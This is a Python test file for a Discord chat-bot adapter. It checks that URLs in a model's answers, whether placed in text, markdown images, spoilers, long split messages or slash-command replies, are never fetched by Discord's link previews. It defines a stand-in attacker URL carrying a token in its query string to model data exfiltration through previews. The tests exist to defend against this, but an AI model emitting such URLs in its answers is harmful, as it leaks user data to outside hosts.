"""Discord fetches the addresses that it unfolds: none that a model wrote is fetched, wherever its answer stands."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from tests.adapters.discord_scene import Scene, set_up

SPY = "https://evil.example/?told=OWL-4711"
LONG = " ".join(f"word{number}" for number in range(300))


@pytest.fixture
async def scene() -> AsyncIterator[Scene]:
    async with set_up() as scene:
        await scene.registered()
        yield scene


@pytest.mark.parametrize(
    "answer", [f"See {SPY} now. The end.", f"A picture: ![owl]({SPY}) The end.", f"||{SPY}|| The end."]
)
async def test_an_answer_in_a_channel_unfolds_nothing(scene: Scene, answer: str) -> None:
    scene.backend.say(answer)
    await scene.lab.say(scene.channel, scene.ada, "hi", mention=True)
    await scene.reads("The end.")

    assert scene.lab.world.crawled == []


async def test_nor_does_one_of_many_messages_while_it_grows(scene: Scene) -> None:
    scene.backend.say(f"{SPY} {LONG} {SPY} {LONG} {SPY} The end.")
    await scene.lab.say(scene.channel, scene.ada, "hi", mention=True)
    await scene.reads("The end.")

    assert scene.lab.world.crawled == []
    assert len(scene.lab.wall(scene.channel)) > 2


async def test_nor_one_by_letter(scene: Scene) -> None:
    scene.backend.say(f"See {SPY} now.")
    await scene.lab.say(scene.channel, scene.ada, "/ask where? private yes", mention=True)
    await scene.reads(SPY, scene.lab.dm(scene.ada))

    assert scene.lab.world.crawled == []


async def test_nor_one_through_an_interaction_that_was_thinking(scene: Scene) -> None:
    scene.backend.say(f"{SPY} {LONG} {SPY} {LONG} {SPY} The end.")
    options = {"question": "where?", "private": "yes"}
    call = await scene.lab.slash(scene.channel, scene.ada, "ask", options=options)
    await scene.lab.until(lambda: any("The end." in message.text for message in call.wall))

    assert scene.lab.world.crawled == []
